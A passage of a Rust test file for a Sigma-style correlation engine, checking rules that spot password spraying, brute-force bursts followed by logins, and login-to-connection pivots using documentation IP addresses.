    );
    // The window restarted after firing; old events expire after the timespan.
    assert!(
        engine
            .evaluate(&failure_from(10, "192.0.2.2", "a"))
            .is_empty()
    );
    assert!(
        engine
            .evaluate(&failure_from(100, "192.0.2.2", "a"))
            .is_empty()
    );
}

#[test]
fn value_count_counts_distinct_values() {
    let mut engine = correlation_engine(
        "title: spray\nid: spray\ncorrelation:\n  type: value_count\n  rules: [failure]\n  group-by: [SourceIp]\n  timespan: 5m\n  condition:\n    field: User\n    gte: 3\n",
    );
    for (i, user) in ["a", "a", "b", "b"].iter().enumerate() {
        assert!(
            engine
                .evaluate(&failure_from(i as u64, "192.0.2.1", user))
                .is_empty()
        );
    }
    assert_eq!(
        hit_ids(&engine.evaluate(&failure_from(5, "192.0.2.1", "c"))),
        vec!["spray"]
    );
}

#[test]
fn temporal_ordered_needs_the_order_and_temporal_does_not() {
    let ordered = "title: o\nid: ordered\ncorrelation:\n  type: temporal_ordered\n  rules: [failure, success]\n  group-by: [ComputerName]\n  timespan: 1m\n";
    let unordered = "title: u\nid: unordered\ncorrelation:\n  type: temporal\n  rules: [failure, success]\n  group-by: [ComputerName]\n  timespan: 1m\n";
    let success = |secs| at(secs, auth(true, "a", "192.0.2.1"));
    let mut engine = correlation_engine(ordered);
    assert!(engine.evaluate(&success(0)).is_empty());
    assert!(
        engine
            .evaluate(&failure_from(1, "192.0.2.1", "a"))
            .is_empty()
    );
    assert_eq!(hit_ids(&engine.evaluate(&success(2))), vec!["ordered"]);
    // Too far apart.
    let mut engine = correlation_engine(ordered);
    assert!(
        engine
            .evaluate(&failure_from(0, "192.0.2.1", "a"))
            .is_empty()
    );
    assert!(engine.evaluate(&success(120)).is_empty());

    let mut engine = correlation_engine(unordered);
    assert!(engine.evaluate(&success(0)).is_empty());
    assert_eq!(
        hit_ids(&engine.evaluate(&failure_from(1, "192.0.2.1", "a"))),
        vec!["unordered"]
    );
}

#[test]
fn chained_correlations_and_generate() {
    let chain = "title: burst\nid: burst\nname: burst\ncorrelation:\n  type: event_count\n  rules: [failure]\n  group-by: [ComputerName]\n  timespan: 1m\n  condition:\n    gte: 2\n---\ntitle: brute\nid: brute\ncorrelation:\n  type: temporal_ordered\n  rules: [burst, success]\n  group-by: [ComputerName]\n  timespan: 5m\ngenerate: true\n";
    let mut engine = correlation_engine(chain);
    assert!(
        engine
            .evaluate(&failure_from(0, "192.0.2.1", "a"))
            .is_empty()
    );
    assert_eq!(
        hit_ids(&engine.evaluate(&failure_from(1, "192.0.2.1", "a"))),
        vec!["burst"]
    );
    let hits = engine.evaluate(&at(2, auth(true, "a", "192.0.2.1")));
    assert_eq!(hit_ids(&hits), vec!["base-success", "brute"]);
    assert_eq!(hits[1].events[0].rule_id, "burst");
}

#[test]
fn aliases_group_different_fields_together() {
    let rules = "title: c\nid: c\nname: conn\nlogsource: {product: linux, category: network_connection}\ndetection: {s: {Initiated: 'true'}, condition: s}\n---\ntitle: l\nid: l\nname: login\nlogsource: {product: linux, category: authentication}\ndetection: {s: {QscKind: auth_success}, condition: s}\n---\ntitle: pivot\nid: pivot\ncorrelation:\n  type: temporal\n  rules: [login, conn]\n  group-by: [peer]\n  timespan: 1m\n  aliases:\n    peer:\n      login: SourceIp\n      conn: DestinationIp\n";
    let (mut engine, report) = engine_from(rules);
    assert!(report.skipped.is_empty(), "{report}");
    assert!(
        engine
            .evaluate(&at(0, auth(true, "a", "192.0.2.9")))
            .is_empty()
    );
    let p = process("/bin/x", "x");
    assert!(
        engine
            .evaluate(&at(1, connect(p.clone(), "192.0.2.10", 22)))
            .is_empty()
    );
    assert_eq!(
        hit_ids(&engine.evaluate(&at(2, connect(p, "192.0.2.9", 22)))),
        vec!["pivot"]
    );
}

#[test]
fn broken_correlations_are_skipped() {
    let cases = [
        (
            "title: x\nid: x\ncorrelation:\n  type: event_count\n  rules: [nowhere]\n  group-by: [User]\n  timespan: 1m\n  condition: {gte: 2}\n",
            "unknown_rule_reference",
        ),
        (
            "title: x\nid: x\nname: x\ncorrelation:\n  type: temporal\n  rules: [y, failure]\n  timespan: 1m\n---\ntitle: y\nid: y\nname: y\ncorrelation:\n  type: temporal\n  rules: [x, failure]\n  timespan: 1m\n",
            "correlation_cycle",
        ),
        (
            "title: x\nid: x\ncorrelation:\n  type: event_count\n  rules: [failure]\n  group-by: [NoSuchField]\n  timespan: 1m\n  condition: {gte: 2}\n",
            "unknown_field",
        ),
        (
            "title: x\nid: x\ncorrelation:\n  type: event_count\n  rules: [failure]\n  timespan: forever\n  condition: {gte: 2}\n",
            "invalid_key",
        ),
    ];
    for (text, label) in cases {
        let (_, report) = Engine::load_texts(&[("base.yml", BASE_RULES), ("c.yml", text)]).unwrap();
        assert!(!report.skipped.is_empty(), "{text}");
        assert!(
            report.skipped.iter().all(|s| s.error.label() == label),
            "{report}"
        );
    }
}

#[test]
fn correlation_state_is_bounded() {
    let mut engine = correlation_engine(
        "title: b\nid: b\ncorrelation:\n  type: event_count\n  rules: [failure]\n  group-by: [SourceIp]\n  timespan: 1h\n  condition:\n    gte: 100000\n",
    );
    let groups = correlation::MAX_GROUPS as u32 + 50;
    for i in 0..groups {
        let ip = IpAddr::from(std::net::Ipv4Addr::from(0x0a00_0000 + i));
        engine.evaluate(&failure_from(1, &ip.to_string(), "a"));
    }
    let stats: Vec<_> = engine.correlation_stats().collect();
    assert_eq!(stats[0].1.evicted_groups, 50);
    assert_eq!(engine.correlation_groups(), correlation::MAX_GROUPS);
    for i in 0..(correlation::MAX_ENTRIES_PER_GROUP as u64 + 10) {
        engine.evaluate(&failure_from(2 + i / 1000, "192.0.2.200", "a"));
    }
    let stats: Vec<_> = engine.correlation_stats().collect();
    assert_eq!(stats[0].1.evicted_entries, 10);
}

#[test]
fn a_rule_may_declare_its_own_likelihood_ratio() {
    let detection = "  s:\n    Image: '/bin/x'\n  condition: s";
    let declared = format!("{}likelihood_ratio: 150\n", rule(detection));
    let (mut engine, report) = engine_from(&declared);
    assert!(report.skipped.is_empty(), "{report}");
    let hits = engine.evaluate(&event(exec(process("/bin/x", "x"))));
    assert_eq!(hits[0].likelihood_ratio, Some(150.0));
    let (mut engine, _) = engine_from(&rule(detection));
    let hits = engine.evaluate(&event(exec(process("/bin/x", "x"))));
    assert_eq!(hits[0].likelihood_ratio, None);
    for bad in ["0", "-2.5", "'many'", ".nan"] {
        let (_, report) = engine_from(&format!("{}likelihood_ratio: {bad}\n", rule(detection)));
        assert_eq!(report.skipped.len(), 1, "likelihood_ratio {bad}: {report}");
    }
}
